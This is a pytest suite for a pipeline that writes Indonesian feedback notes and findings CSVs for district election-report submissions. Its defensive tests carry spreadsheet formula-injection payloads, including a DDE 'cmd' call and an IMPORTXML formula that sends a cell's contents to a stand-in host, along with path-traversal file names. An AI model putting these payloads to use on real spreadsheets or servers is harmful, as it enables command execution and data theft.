"""Feedback to the desks: the Indonesian note and the findings CSV for every file received."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
from datetime import datetime
from pathlib import Path

import polars as pl
import pytest

from tasks.config import WITA
from tasks.contract.regions import regions, tps_master
from tasks.contract.submission import column_names
from tasks.ingest.feedback import FORMULA_START, feedback_paths, safe_cell
from tests.pipeline import ingest

KAB = "6474"
WEEK = "2024-W47"
ON_TIME = datetime(2024, 11, 22, 10, 0, tzinfo=WITA)
LATE = datetime(2024, 11, 23, 14, 15, tzinfo=WITA)  # Saturday, after the 12:00 deadline
HEADER = ["baris", "kolom", "aturan", "tingkat", "pesan", "akibat"]


# ---------------------------------------------------------------------------------------------
# files


def to_csv(rows: list[dict], kind: str, columns: list[str] | None = None) -> bytes:
    columns = columns or column_names(kind)
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=columns, extrasaction="ignore", lineterminator="\n")
    w.writeheader()
    w.writerows(rows)
    return buf.getvalue().encode("utf-8")


def keamanan_rows() -> list[dict]:
    per_kec = (tps_master().filter(pl.col("kabkota_code") == KAB)
               .group_by("kecamatan_code").agg(n=pl.len()).sort("kecamatan_code"))
    return [{"kode_kabkota": KAB, "kode_kecamatan": kec, "jumlah_tps": n,
             "tps_kurang_rawan": n - n // 5, "tps_rawan": n // 5, "tps_sangat_rawan": 0,
             "personel_polri": n, "personel_tni": n // 2, "personel_linmas": 2 * n, "posko": 1,
             "per_tanggal": "2024-11-21"} for kec, n in per_kec.iter_rows()]


def insiden_rows(n: int = 4) -> list[dict]:
    desa = regions()["desa"].filter(pl.col("kabkota_code") == KAB).sort("desa_code")
    kec, first_desa = desa["kecamatan_code"][0], desa["desa_code"][0]
    return [{"kode_kabkota": KAB, "id_insiden": f"INS-{KAB}-{i:03d}",
             "waktu_kejadian": "2024-11-19 14:30", "kode_kecamatan": kec,
             "kode_desa": first_desa, "kategori": "hoaks", "tingkat": "sedang",
             "status": "dilaporkan", "korban_meninggal": 0, "korban_luka": 0,
             "ditangani_oleh": "Polres", "sumber": "", "ringkasan": "Kabar bohong soal TPS."}
            for i in range(1, n + 1)]


def put(settings, rel: str, data: bytes, when: datetime = ON_TIME) -> Path:
    path = Path(settings.inbox) / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    os.utime(path, (when.timestamp(), when.timestamp()))
    return path


def run(con, settings) -> dict[str, int]:
    """Ingest the inbox (the flow, which writes the feedback); file_id by source path."""
    results = ingest(settings)
    return {v.source_path: v.file_id for v in results}


def written_feedback(con, settings, file_ids: list[int]) -> list[Path]:
    """The feedback files the ingest run left for `file_ids`, where the writer puts them."""
    written: list[Path] = []
    for file_id in file_ids:
        ((kab, name),) = con.execute("SELECT kabkota_code, file_name FROM raw.file "
                                     "WHERE file_id = ?", [file_id]).fetchall()
        written += [p for p in feedback_paths(settings.outbox, kab, name, file_id)
                    if p.is_file()]
    return written


def feedback(con, settings, file_id: int) -> tuple[str, list[list[str]] | None, list[Path]]:
    """The note's text and the findings CSV's rows (None when no CSV) for one file."""
    written = written_feedback(con, settings, [file_id])
    notes = [p for p in written if p.name.endswith(".umpan-balik.txt")]
    tables = [p for p in written if p.name.endswith(".temuan.csv")]
    assert len(notes) == 1 and len(tables) <= 1, written
    text = notes[0].read_text(encoding="utf-8")
    rows = None
    if tables:
        raw = tables[0].read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf"), "the CSV carries a BOM so Excel reads UTF-8"
        with tables[0].open(encoding="utf-8-sig", newline="") as f:
            rows = list(csv.reader(f, delimiter=";"))
    return text, rows, written


def issue_count(con, file_id: int) -> int:
    ((n,),) = con.execute("SELECT count(*) FROM audit.row_issue WHERE file_id = ?",
                          [file_id]).fetchall()
    return n


def status_line(text: str) -> str:
    (line,) = [ln for ln in text.splitlines() if ln.startswith("Status")]
    return line.split(":", 1)[1].strip()


# ---------------------------------------------------------------------------------------------
# the note, per status


def test_accepted_file_gets_a_note_and_no_findings_table(warehouse, settings_env, prefect_harness):
    data = to_csv(keamanan_rows(), "keamanan")
    rel = f"{KAB}/{KAB}_keamanan_{WEEK}.csv"
    put(settings_env, rel, data)
    ids = run(warehouse, settings_env)
    text, rows, written = feedback(warehouse, settings_env, ids[rel])
    assert status_line(text) == "DITERIMA"
    assert rows is None and len(written) == 1
    note = written[0]
    assert note.parent == settings_env.outbox / "feedback" / KAB
    assert note.name == f"{KAB}_keamanan_{WEEK}.csv.{ids[rel]}.umpan-balik.txt"
    assert f"File          : {KAB}_keamanan_{WEEK}.csv" in text
    assert "Jumlah baris  : 3 (ditandai: 0)" in text
    assert "Diterima      : 22-11-2024 10:00 WITA\n" in text
    assert "TERLAMBAT" not in text and "Keterangan" not in text and "Mohon perbaiki" not in text
    assert f"SHA-256: {hashlib.sha256(data).hexdigest()}" in text


def test_flagged_file_note_lists_rows_and_messages(warehouse, settings_env, prefect_harness):
    rows = keamanan_rows()
    rows[1]["personel_polri"] = "abc"  # spreadsheet row 3
    rows[1]["tps_rawan"] += 4  # same row: its classes no longer add up
    rel = f"{KAB}/{KAB}_keamanan_{WEEK}.csv"
    put(settings_env, rel, to_csv(rows, "keamanan"))
    ids = run(warehouse, settings_env)
    text, table, _ = feedback(warehouse, settings_env, ids[rel])
    assert status_line(text) == "DITERIMA DENGAN CATATAN"
    assert "Jumlah baris  : 3 (ditandai: 1)" in text
    assert ("Keterangan    : Diterima dengan catatan: 1 baris dihitung tanpa nilai yang "
            "ditandai") in text
    assert "- Baris 3, kolom personel_polri: nilai 'abc' bukan bilangan bulat" in text
    assert "- Baris 3, kolom jumlah_tps: tps_kurang_rawan + tps_rawan + tps_sangat_rawan" in text
    assert "Mohon perbaiki" in text and "_revisi" in text

    assert table is not None and table[0] == HEADER
    body = table[1:]
    assert len(body) == issue_count(warehouse, ids[rel]) == 2
    assert [(r[0], r[1], r[2], r[3]) for r in body] == [
        ("3", "jumlah_tps", "kelas_tps_sama_dengan_jumlah", "flag"),
        ("3", "personel_polri", "format_nilai", "flag")]
    assert body[1][4] == "Baris 3, kolom personel_polri: nilai 'abc' bukan bilangan bulat"
    # both are about values: the desk learns that only those values stopped counting
    assert [r[5] for r in body] == ["nilai ini tidak dihitung"] * 2


def test_rejected_file_note_says_why(warehouse, settings_env, prefect_harness):
    rel = f"{KAB}/{KAB}_keamanan_{WEEK}.csv"
    columns = [c for c in column_names("keamanan") if c != "posko"]
    put(settings_env, rel, to_csv(keamanan_rows(), "keamanan", columns))
    ids = run(warehouse, settings_env)
    text, table, _ = feedback(warehouse, settings_env, ids[rel])
    assert status_line(text) == "DITOLAK"
    assert "Keterangan    : Kolom wajib tidak ada: posko." in text
    assert "- File, kolom" not in text  # a whole-file finding has no column
    assert "- File: Kolom wajib tidak ada: posko" in text
    assert "Mohon perbaiki" in text
    assert table == [HEADER, ["", "", "kolom_wajib", "reject",
                              "File: Kolom wajib tidak ada: posko. Periksa baris judul kolom "
                              "(lihat format laporan).", "file ditolak"]]


def test_unusable_name_is_rejected_with_feedback(warehouse, settings_env, prefect_harness):
    rel = f"{KAB}/laporan minggu ini.csv"
    put(settings_env, rel, b"apa saja\n")
    ids = run(warehouse, settings_env)
    text, table, written = feedback(warehouse, settings_env, ids[rel])
    assert status_line(text) == "DITOLAK"
    assert "tidak sesuai pola" in text
    assert written[0].parent == settings_env.outbox / "feedback" / KAB
    assert table is not None and len(table) == 2


def test_late_file_note_says_terlambat(warehouse, settings_env, prefect_harness):
    rel = f"{KAB}/{KAB}_keamanan_{WEEK}.csv"
    put(settings_env, rel, to_csv(keamanan_rows(), "keamanan"), LATE)
    ids = run(warehouse, settings_env)
    text, table, _ = feedback(warehouse, settings_env, ids[rel])
    assert status_line(text) == "DITERIMA"
    assert "Diterima      : 23-11-2024 14:15 WITA (TERLAMBAT)" in text
    assert "Keterangan    : Terlambat: diterima 23-11-2024 14:15 WITA, batas 23-11-2024 12:00" \
        in text
    assert table is None


def test_duplicate_and_superseded_notes(warehouse, settings_env, prefect_harness):
    data = to_csv(keamanan_rows(), "keamanan")
    first, copy = f"{KAB}/{KAB}_keamanan_{WEEK}.csv", f"{KAB}/{KAB}_keamanan_{WEEK}_b.csv"
    put(settings_env, first, data)
    put(settings_env, copy, data, datetime(2024, 11, 22, 10, 30, tzinfo=WITA))
    revised = keamanan_rows()
    revised[0]["posko"] = 3
    revisi = f"{KAB}/{KAB}_keamanan_{WEEK}_revisi.csv"
    put(settings_env, revisi, to_csv(revised, "keamanan"),
        datetime(2024, 11, 22, 11, 0, tzinfo=WITA))
    ids = run(warehouse, settings_env)
    dup_text, _, _ = feedback(warehouse, settings_env, ids[copy])
    assert status_line(dup_text).startswith("DUPLIKAT")
    assert "sama persis" in dup_text
    old_text, _, _ = feedback(warehouse, settings_env, ids[first])
    assert status_line(old_text).startswith("DIGANTIKAN")
    assert f"{KAB}_keamanan_{WEEK}_revisi.csv" in old_text
    new_text, _, _ = feedback(warehouse, settings_env, ids[revisi])
    assert status_line(new_text) == "DITERIMA"
    assert "Versi         : 2" in new_text


def test_many_findings_note_is_capped_but_the_table_is_complete(warehouse, settings_env,
                                                                prefect_harness):
    rows = insiden_rows(250)
    for r in rows:
        r["kategori"] = "pencurian"
    rel = f"{KAB}/{KAB}_insiden_{WEEK}.csv"
    put(settings_env, rel, to_csv(rows, "insiden"))
    ids = run(warehouse, settings_env)
    text, table, _ = feedback(warehouse, settings_env, ids[rel])
    # every incident is its own report (policy independent_rows): flagged, kept, not refused
    assert status_line(text) == "DITERIMA DENGAN CATATAN"
    assert sum(1 for ln in text.splitlines() if ln.startswith("- Baris")) == 200
    assert "- … dan 50 temuan lain (lihat file CSV terlampir)" in text
    assert table is not None
    assert len(table) - 1 == issue_count(warehouse, ids[rel]) == 250
    assert [r[0] for r in table[1:]] == [str(n) for n in range(2, 252)]


# ---------------------------------------------------------------------------------------------
# formula injection


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
    ("+6281234", "'+6281234"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Baris 5, kolom x: nilai '=1+1'", "Baris 5, kolom x: nilai '=1+1'"),
    ("aman", "aman"),
    ("", ""),
    (None, ""),
    (12, "12"),
    (-3, "'-3"),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_formula_characters_cover_the_usual_list():
    assert set(FORMULA_START) >= {"=", "+", "-", "@", "\t", "\r"}


INJECTED = {
    "kode_desa": '=HYPERLINK("http://x","y")',
    "kategori": "=1+1",
    "tingkat": "@SUM(A1:A9)",
    "status": "+cmd|' /C calc'!A0",
    "korban_luka": "-1+1",
}


def test_values_echoed_into_the_findings_table_cannot_be_formulas(warehouse, settings_env,
                                                                  prefect_harness):
    rows = insiden_rows(12)
    for i, (col, value) in enumerate(INJECTED.items()):
        rows[i][col] = value  # one poisoned cell in each of five rows: 5 of 12 flagged
    rel = f"{KAB}/{KAB}_insiden_{WEEK}.csv"
    put(settings_env, rel, to_csv(rows, "insiden"))
    ids = run(warehouse, settings_env)
    text, table, written = feedback(warehouse, settings_env, ids[rel])
    assert status_line(text) == "DITERIMA DENGAN CATATAN"
    assert table is not None
    cells = [c for r in table for c in r]
    echoed = "\n".join(cells)
    for value in INJECTED.values():
        assert value in echoed or value[:40] in echoed, f"{value!r} is not reported back"
    for cell in cells:
        assert not cell.startswith(FORMULA_START) or cell.startswith("'"), cell
    # and a spreadsheet reading the raw bytes finds no field that opens with a formula
    raw = next(p for p in written if p.suffix == ".csv").read_bytes().decode("utf-8-sig")
    for record in csv.reader(io.StringIO(raw, newline=""), delimiter=";"):
        for field in record:
            assert not field.lstrip(" ").startswith(tuple("=+-@")), field


def test_injected_values_in_a_json_submission_are_neutralised(warehouse, settings_env,
                                                              prefect_harness):
    objs = [{**r, "korban_meninggal": int(r["korban_meninggal"])} for r in insiden_rows(4)]
    objs[0]["kategori"] = "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")"
    rel = f"{KAB}/{KAB}_insiden_{WEEK}.json"
    put(settings_env, rel, json.dumps(objs).encode())
    ids = run(warehouse, settings_env)
    _, table, _ = feedback(warehouse, settings_env, ids[rel])
    assert table is not None and len(table) == 2
    assert "=IMPORTXML" in table[1][4]
    assert all(not c.startswith(FORMULA_START) or c.startswith("'") for c in table[1])


# ---------------------------------------------------------------------------------------------
# where feedback is written


ODD_NAMES = [
    f"{KAB}/{KAB}_insiden_{WEEK}_..json",  # dots where a suffix goes
    f"{KAB}/x..\\..\\..\\evil.csv",  # backslashes are ordinary characters on POSIX
    f"{KAB}/%2e%2e%2f%2e%2e%2fevil.csv",
    f"a..b/{KAB}_insiden_{WEEK}.json",  # dotted folder name
    "x..y/laporan.csv",  # unmatched name: the folder becomes the "kab/kota"
    "laporan.csv",  # at the inbox root
]
HIDDEN = [f"{KAB}/..{KAB}_insiden_{WEEK}.json", f"..{KAB}/{KAB}_insiden_{WEEK}.json"]


def test_feedback_never_leaves_the_outbox(warehouse, settings_env, prefect_harness):
    for rel in ODD_NAMES + HIDDEN:
        put(settings_env, rel, b"[]")
    ids = run(warehouse, settings_env)
    assert set(ids) == set(ODD_NAMES)  # names starting with a dot are never read
    written = written_feedback(warehouse, settings_env, sorted(ids.values()))
    root = (settings_env.outbox / "feedback").resolve()
    assert len([p for p in written if p.name.endswith(".umpan-balik.txt")]) == len(ODD_NAMES)
    for p in written:
        assert p.resolve().is_relative_to(root), p
        assert p.resolve().parent.parent == root, p  # exactly feedback/<folder>/<file>
        assert p.is_file()
    everything = [p for p in Path(settings_env.outbox).rglob("*") if p.is_file()]
    assert sorted(everything) == sorted(written)
    folders = {p.parent.name for p in written}
    assert folders == {KAB, "x..y", "lainnya"}
